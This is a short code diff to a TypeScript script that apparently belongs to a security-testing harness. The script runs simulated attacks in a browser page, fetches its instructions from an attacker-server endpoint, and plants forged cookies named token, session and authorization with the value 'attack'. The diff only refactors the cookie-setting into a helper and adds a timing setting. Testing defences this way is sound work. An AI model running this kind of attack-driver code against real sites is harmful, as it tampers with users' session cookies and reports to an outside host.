@@ -1,5 +1,5 @@
 /** Runs all attacks by itself and tells the attacker's server, which answers with the next page to go to. */
-import { type Attack, type Knowledge, messageOf, nothing } from './attack.ts';
+import { type Attack, type Knowledge, messageOf, nothing, setPatience } from './attack.ts';
 import { channels } from './channels.ts';
 import { elements } from './elements.ts';
 import { aliasAttacks, fetches } from './fetches.ts';
@@ -43,12 +43,18 @@ async function tell(path: string, body: unknown): Promise<unknown> {
   return answer.json();
 }
 
+function setCookie(name: string): void {
+  // biome-ignore lint/suspicious/noDocumentCookie: attackers do, and the newer way is not in every engine
+  document.cookie = `${name}=attack; path=/`;
+}
+
 async function main(): Promise<void> {
   const asked: Knowledge = await (await fetch(`${attacker}/knowledge?place=${encodeURIComponent(place)}`)).json();
   const knowledge: Knowledge = asked.isRebound ? { ...asked, base: location.origin } : asked;
+  setPatience(knowledge.patienceMs);
   try {
     // why: cookies are shared by all ports of a name; none of these may ever count.
-    for (const name of ['token', 'session', 'hookglass', 'authorization']) document.cookie = `${name}=attack; path=/`;
+    for (const name of ['token', 'session', 'hookglass', 'authorization']) setCookie(name);
   } catch {
     // A page without an origin has no cookies.
   }
